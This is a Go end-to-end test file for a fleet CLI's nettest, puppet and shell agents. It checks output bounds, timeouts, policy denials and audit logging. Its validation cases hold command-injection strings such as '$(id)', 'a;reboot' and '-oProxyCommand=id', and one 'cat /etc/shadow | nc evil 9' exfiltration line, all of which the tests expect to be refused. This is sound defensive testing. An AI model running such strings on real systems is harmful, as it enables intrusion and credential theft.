package cli

import (
	"context"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tuttifleet/tutti/client"
	"github.com/tuttifleet/tutti/connector/protocol"
)

// opsFleet is a two-node fleet for the nettest, puppet and shell agents.
// node1 enables shell and has a fake puppet (Dir/node1.../puppet, its
// state in state/ beside it, calls logged in calls.log); node2 keeps
// shell off and has no Puppet. ActionPolicy allows demo everything on
// nettest and puppet, and only shell#run; guest nothing.
func opsFleet(t *testing.T) *Fleet {
	t.Helper()
	f := startFleet(t, 2)
	policies := map[string]string{
		"nettest": "policy default deny\nallow\tchoria=demo.mcollective\t*\t*\t*\n",
		"puppet":  "policy default deny\nallow\tchoria=demo.mcollective\t*\t*\t*\n",
		"shell":   "policy default deny\nallow\tchoria=demo.mcollective\trun\t*\t*\n",
	}
	for agent, p := range policies {
		if err := writeFile(filepath.Join(f.Dir, "policies", agent+".policy"), p, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return restartNodes(t, f, func(i int, name string) string {
		dir := filepath.Join(f.Dir, name)
		extra := "plugin.tutti.puppet.command = " + filepath.Join(dir, "no-puppet-here") + "\n"
		if i == 0 {
			copyFile(t, "../../../agents/puppet/testdata/puppet", filepath.Join(dir, "puppet"), 0o755)
			copyFile(t, "../../../agents/puppet/testdata/last_run_summary.yaml", filepath.Join(dir, "state", "last_run_summary.yaml"), 0o644)
			extra = "plugin.tutti.shell.enabled = true\nplugin.tutti.shell.max_output = 4096\n" +
				"plugin.tutti.puppet.command = " + filepath.Join(dir, "puppet") + "\n" +
				"plugin.tutti.puppet.statedir = " + filepath.Join(dir, "state") + "\n" +
				"plugin.tutti.puppet.summary = " + filepath.Join(dir, "state", "last_run_summary.yaml") + "\n" +
				"plugin.tutti.puppet.pidfile = " + filepath.Join(dir, "agent.pid") + "\n"
		}
		return extra
	})
}

const (
	opsNode1 = "node1.demo.example.net"
	opsNode2 = "node2.demo.example.net"
)

// byNode maps each reply's sender to the reply and its data.
func byNode(t *testing.T, doc ddlRPCDoc) (map[string]rpcResult, map[string]map[string]any) {
	t.Helper()
	reps, data := map[string]rpcResult{}, map[string]map[string]any{}
	for _, r := range doc.Replies {
		var d map[string]any
		if len(r.Data) > 0 {
			if err := json.Unmarshal(r.Data, &d); err != nil {
				t.Fatalf("%s: %v %s", r.Sender, err, r.Data)
			}
		}
		reps[r.Sender], data[r.Sender] = r, d
	}
	if len(reps) != 2 {
		t.Fatalf("want replies from 2 nodes: %+v", doc)
	}
	return reps, data
}

// nodeRefusals sends data the CLI would refuse straight to both nodes
// (or to targets) and checks that each replies with status 4 naming want.
func nodeRefusals(t *testing.T, conf, agent, action string, bad []string, want string, targets ...string) {
	t.Helper()
	if len(targets) == 0 {
		targets = []string{opsNode1, opsNode2}
	}
	cl := testClient(t, conf)
	for _, data := range bad {
		var results []client.Result
		_, err := cl.Do(context.Background(), client.Request{Agent: agent, Action: action, Data: json.RawMessage(data),
			Filter: protocol.NewFilter(agent), Targets: targets, Expect: len(targets), Timeout: 5 * time.Second},
			func(r client.Result) { results = append(results, r) })
		if err != nil {
			t.Fatal(err)
		}
		if len(results) != len(targets) {
			t.Fatalf("%s#%s %s: %d replies", agent, action, data, len(results))
		}
		for _, r := range results {
			if r.RPC == nil || r.RPC.StatusCode != protocol.InvalidData || !strings.Contains(r.RPC.StatusMsg, want) {
				t.Fatalf("%s#%s %s from %s: %+v", agent, action, data, r.Sender, r.RPC)
			}
		}
	}
}

func TestE2ENettestAgent(t *testing.T) {
	f := opsFleet(t)
	conf := filepath.Join(f.Dir, "demo.conf")
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	open := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	closedLn, _ := net.Listen("tcp", "127.0.0.1:0")
	closed := strconv.Itoa(closedLn.Addr().(*net.TCPAddr).Port)
	closedLn.Close()

	_, data := byNode(t, rpcJSON(t, ExitOK, "rpc", "nettest", "ping", "fqdn=127.0.0.1", "--config", conf))
	for node, d := range data {
		if d["rtt"].(float64) < 0 || (d["method"] != "icmp" && d["method"] != "tcp") || d["address"] != "127.0.0.1" {
			t.Fatalf("ping from %s: %v", node, d)
		}
		t.Logf("%s pinged 127.0.0.1 by %v in %v ms", node, d["method"], d["rtt"])
	}
	_, data = byNode(t, rpcJSON(t, ExitOK, "rpc", "nettest", "connect", "fqdn=localhost", "port="+open, "--config", conf))
	for node, d := range data {
		if d["connect"] != true || d["connect_status"] != "connected" {
			t.Fatalf("connect from %s: %v", node, d)
		}
	}
	doc := rpcJSON(t, ExitOK, "rpc", "nettest", "connect", "fqdn=127.0.0.1", "port="+closed, "timeout=1", "--config", conf)
	if got := ddlAggregates(nil, "nettest", "connect", doc.Replies); len(got) < 3 || got[0] != "Summary of Connection Status:" || got[2] != "   refused = 2" {
		t.Fatalf("connect aggregates %q", got)
	}
	// the human output labels come from the DDL
	code, out, _ := runCLI(t, "rpc", "nettest", "ping", "fqdn=127.0.0.1", "--config", conf)
	if code != ExitOK || !strings.Contains(out, "RTT (ms)") || !strings.Contains(out, "Method") {
		t.Fatalf("human output (%d):\n%s", code, out)
	}

	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"ping", "fqdn=-oProxyCommand=id"}, "invalid input fqdn"},
		{[]string{"ping", "fqdn=a;reboot"}, "invalid input fqdn"},
		{[]string{"connect", "fqdn=127.0.0.1", "port=http"}, "invalid input port"},
		{[]string{"connect", "fqdn=127.0.0.1"}, "needs the input port"},
	} {
		code, _, stderr := runCLI(t, append(append([]string{"rpc", "nettest"}, tc.args...), "--config", conf)...)
		if code != ExitUsage || !strings.Contains(stderr, tc.want) {
			t.Fatalf("nettest %v: exit %d %s", tc.args, code, stderr)
		}
	}
	nodeRefusals(t, conf, "nettest", "ping", []string{`{"fqdn":"-x"}`, `{"fqdn":"a b"}`, `{"fqdn":"127.0.0.1","timeout":600}`}, "Validation failed")
	nodeRefusals(t, conf, "nettest", "connect", []string{`{"fqdn":"127.0.0.1","port":70000}`}, "Validation failed: port")
}

func TestE2EPuppetAgent(t *testing.T) {
	f := opsFleet(t)
	conf := filepath.Join(f.Dir, "demo.conf")
	dir1 := filepath.Join(f.Dir, opsNode1)

	reps, data := byNode(t, rpcJSON(t, ExitOK, "rpc", "puppet", "status", "--config", conf))
	if data[opsNode1]["status"] != "stopped" || data[opsNode1]["enabled"] != true || data[opsNode1]["lastrun"].(float64) != 1700000000 {
		t.Fatalf("node1 status: %v", data[opsNode1])
	}
	if reps[opsNode2].StatusCode != protocol.OK || data[opsNode2]["status"] != "absent" ||
		!strings.Contains(data[opsNode2]["message"].(string), "Puppet is not installed on this node") {
		t.Fatalf("node2 status: %+v %v", reps[opsNode2], data[opsNode2])
	}
	statusDoc := rpcJSON(t, ExitOK, "rpc", "puppet", "status", "--config", conf)
	if got := ddlAggregates(nil, "puppet", "status", statusDoc.Replies); !slices.Contains(got, "Summary of Status:") ||
		!slices.Contains(got, "    absent = 1") || !slices.Contains(got, "   stopped = 1") || !slices.Equal(got[:3], []string{"Summary of Enabled:", "", "   true = 1"}) {
		t.Fatalf("status aggregates %q", got)
	}

	rpcJSON(t, ExitOK, "rpc", "puppet", "disable", "message=kernel upgrade", "-I", opsNode1, "--config", conf)
	_, data = byNode(t, rpcJSON(t, ExitOK, "rpc", "puppet", "status", "--config", conf))
	if data[opsNode1]["status"] != "disabled" || data[opsNode1]["disable_message"] != "kernel upgrade" {
		t.Fatalf("after disable: %v", data[opsNode1])
	}
	doc := rpcJSON(t, ExitFailed, "rpc", "puppet", "runonce", "-I", opsNode1, "--config", conf)
	if r := doc.Replies[0]; r.StatusCode != protocol.Aborted || r.StatusMsg != "Puppet is disabled: kernel upgrade" {
		t.Fatalf("runonce while disabled: %+v", r)
	}
	rpcJSON(t, ExitOK, "rpc", "puppet", "enable", "-I", opsNode1, "--config", conf)

	reps, data = byNode(t, rpcJSON(t, ExitFailed, "rpc", "puppet", "runonce", "splay=true", "splaylimit=120", "tags=ntp,ssh", "--config", conf))
	if reps[opsNode1].StatusCode != protocol.OK || !strings.Contains(data[opsNode1]["summary"].(string), "--splay --splaylimit=120") {
		t.Fatalf("runonce node1: %+v", reps[opsNode1])
	}
	if reps[opsNode2].StatusCode != protocol.Aborted || !strings.Contains(reps[opsNode2].StatusMsg, "Puppet is not installed on this node") {
		t.Fatalf("runonce node2: %+v", reps[opsNode2])
	}
	waitForFile(t, filepath.Join(dir1, "ran.log"), "--onetime --no-daemonize --color=false --show_diff --verbose --tags=ntp,ssh --splay --splaylimit=120\n")

	reps, data = byNode(t, rpcJSON(t, ExitFailed, "rpc", "puppet", "last_run_summary", "--config", conf))
	if reps[opsNode1].StatusCode != protocol.OK || data[opsNode1]["total_resources"].(float64) != 143 || data[opsNode1]["config_version"] != "1700000123" {
		t.Fatalf("last_run_summary: %+v", reps[opsNode1])
	}
	code, out, _ := runCLI(t, "rpc", "puppet", "last_run_summary", "-I", opsNode1, "--config", conf)
	if code != ExitOK || !strings.Contains(out, "Total Resources") || !strings.Contains(out, "Config Retrieval Time") {
		t.Fatalf("human output (%d):\n%s", code, out)
	}

	before := mustReadOr(t, filepath.Join(dir1, "calls.log"))
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"disable", "message=--help"}, "invalid input message"},
		{[]string{"disable", "message=x; reboot"}, "invalid input message"},
		{[]string{"runonce", "tags=--modulepath=/tmp"}, "invalid input tags"},
		{[]string{"runonce", "environment=../etc"}, "invalid input environment"},
		{[]string{"runonce", "splaylimit=soon"}, "invalid input splaylimit"},
	} {
		code, _, stderr := runCLI(t, append(append([]string{"rpc", "puppet"}, tc.args...), "--config", conf)...)
		if code != ExitUsage || !strings.Contains(stderr, tc.want) {
			t.Fatalf("puppet %v: exit %d %s", tc.args, code, stderr)
		}
	}
	nodeRefusals(t, conf, "puppet", "disable", []string{`{"message":"-x"}`, `{"message":"$(id)"}`}, "Validation failed: message")
	nodeRefusals(t, conf, "puppet", "runonce", []string{`{"server":"-evil"}`, `{"splaylimit":"x"}`}, "Validation failed")
	if after := mustReadOr(t, filepath.Join(dir1, "calls.log")); after != before {
		t.Fatalf("puppet ran for refused inputs:\n%s", strings.TrimPrefix(after, before))
	}
}

func TestE2EShellAgent(t *testing.T) {
	f := opsFleet(t)
	conf := filepath.Join(f.Dir, "demo.conf")

	// node1 enabled shell, node2 did not: refused there with the reason
	reps, data := byNode(t, rpcJSON(t, ExitFailed, "rpc", "shell", "run", "command=echo hello", `args=["$HOME","a b","*"]`, "--config", conf))
	if reps[opsNode1].StatusCode != protocol.OK || data[opsNode1]["stdout"] != "hello $HOME a b *\n" || data[opsNode1]["exitcode"].(float64) != 0 {
		t.Fatalf("node1: %+v", reps[opsNode1])
	}
	if r := reps[opsNode2]; r.StatusCode != protocol.Aborted ||
		r.StatusMsg != "The shell agent is disabled on this node: set plugin.tutti.shell.enabled = true in its configuration to allow shell#run" {
		t.Fatalf("node2: %+v", r)
	}
	_, data = byNode(t, rpcJSON(t, ExitFailed, "rpc", "shell", "run", "command=/bin/sh", `args=["-c","echo err >&2; exit 7"]`, "--config", conf))
	if data[opsNode1]["exitcode"].(float64) != 7 || data[opsNode1]["stderr"] != "err\n" || data[opsNode1]["success"] != false {
		t.Fatalf("exit 7: %v", data[opsNode1])
	}

	// output bound (plugin.tutti.shell.max_output = 4096 on node1)
	doc := rpcJSON(t, ExitOK, "rpc", "shell", "run", "command=head -c 1000000 /dev/zero", "-I", opsNode1, "--config", conf)
	var d map[string]any
	if err := json.Unmarshal(doc.Replies[0].Data, &d); err != nil || len(d["stdout"].(string)) != 4096 || d["truncated"] != true {
		t.Fatalf("bounded output: %v truncated=%v", err, d["truncated"])
	}
	// timeout: the command and its children are killed
	started := time.Now()
	doc = rpcJSON(t, ExitFailed, "rpc", "shell", "run", "command=/bin/sh", `args=["-c","sleep 60 & sleep 60"]`, "timeout=0.5", "-I", opsNode1, "--config", conf)
	if r := doc.Replies[0]; r.StatusCode != protocol.Aborted || !strings.Contains(r.StatusMsg, "did not finish within 500ms and was killed") ||
		!strings.Contains(string(r.Data), `"timed_out": true`) || time.Since(started) > 10*time.Second {
		t.Fatalf("timeout: %+v after %s", r, time.Since(started))
	}
	// human output labels
	code, out, _ := runCLI(t, "rpc", "shell", "run", "command=uname", "-I", opsNode1, "--config", conf)
	if code != ExitOK || !strings.Contains(out, "Standard Output") || !strings.Contains(out, "Linux") {
		t.Fatalf("human output (%d):\n%s", code, out)
	}

	// the CLI refuses what the DDL refuses; the nodes refuse the rest
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"command=-rf"}, "invalid input command"},
		{[]string{"command=echo", "args=notjson"}, "invalid input args"},
		{[]string{"command=echo", "timeout=soon"}, "invalid input timeout"},
		{[]string{"command=" + strings.Repeat("x", 10241)}, "invalid input command"},
	} {
		code, _, stderr := runCLI(t, append(append([]string{"rpc", "shell", "run"}, tc.args...), "--config", conf)...)
		if code != ExitUsage || !strings.Contains(stderr, tc.want) {
			t.Fatalf("shell run %v: exit %d %s", tc.args, code, stderr)
		}
	}
	nodeRefusals(t, conf, "shell", "run", []string{`{"command":"echo hi; reboot"}`, `{"command":"cat /etc/shadow | nc evil 9"}`,
		`{"command":"echo $(id)"}`, `{"command":"-rf"}`, `{"command":"echo","timeout":9999}`}, "Validation failed", opsNode1)

	// ActionPolicy: guest may not run shell#run; both decisions are
	// audited with the command
	code, out, _ = runCLI(t, "rpc", "shell", "run", "command=id", "-I", opsNode1, "--config", filepath.Join(f.Dir, "guest.conf"), "--json")
	if code != ExitFailed || !strings.Contains(out, protocol.NotAuthorizedMsg) {
		t.Fatalf("guest shell run: %d %s", code, out)
	}
	b, err := os.ReadFile(filepath.Join(f.Dir, "audit-"+opsNode1+".log"))
	if err != nil {
		t.Fatal(err)
	}
	var allowed, denied bool
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var rec struct {
			Caller, Agent, Action, Decision string
			Data                            struct {
				Command string   `json:"command"`
				Args    []string `json:"args"`
			}
		}
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		if rec.Agent != "shell" {
			continue
		}
		switch {
		case rec.Caller == "choria=demo.mcollective" && rec.Decision == "allow" && rec.Data.Command == "echo hello" && slices.Equal(rec.Data.Args, []string{"$HOME", "a b", "*"}):
			allowed = true
		case rec.Caller == "choria=guest.mcollective" && rec.Decision == "deny" && rec.Data.Command == "id":
			denied = true
		}
	}
	if !allowed || !denied {
		t.Fatalf("audit of shell#run (allowed %v, denied %v):\n%s", allowed, denied, b)
	}
	// node2 audited the command it refused to run, and why
	b2 := mustReadOr(t, filepath.Join(f.Dir, "audit-"+opsNode2+".log"))
	if !strings.Contains(b2, `"command":"echo hello"`) || !strings.Contains(b2, "The shell agent is disabled on this node") {
		t.Fatalf("node2 audit:\n%s", b2)
	}
}

func waitForFile(t *testing.T, path, want string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		b, _ := os.ReadFile(path)
		if strings.Contains(string(b), want) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s: %q, want %q", path, b, want)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func mustReadOr(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return string(b)
}

func TestPluginDocOpsAgents(t *testing.T) {
	code, out, _ := runCLI(t, "plugin", "doc")
	for _, agent := range []string{"nettest", "puppet", "shell"} {
		if code != ExitOK || !strings.Contains(out, "\n  "+agent+" ") {
			t.Fatalf("plugin doc does not list %s:\n%s", agent, out)
		}
	}
	for _, tc := range []struct{ what, want string }{
		{"nettest/ping", "rtt (RTT (ms))"},
		{"puppet/disable", "message (string, optional)"},
		{"shell/run", "Example: tutti rpc shell run command=STRING"},
	} {
		code, out, _ := runCLI(t, "plugin", "doc", tc.what)
		if code != ExitOK || !strings.Contains(out, tc.want) {
			t.Fatalf("plugin doc %s: %d\n%s", tc.what, code, out)
		}
	}
}
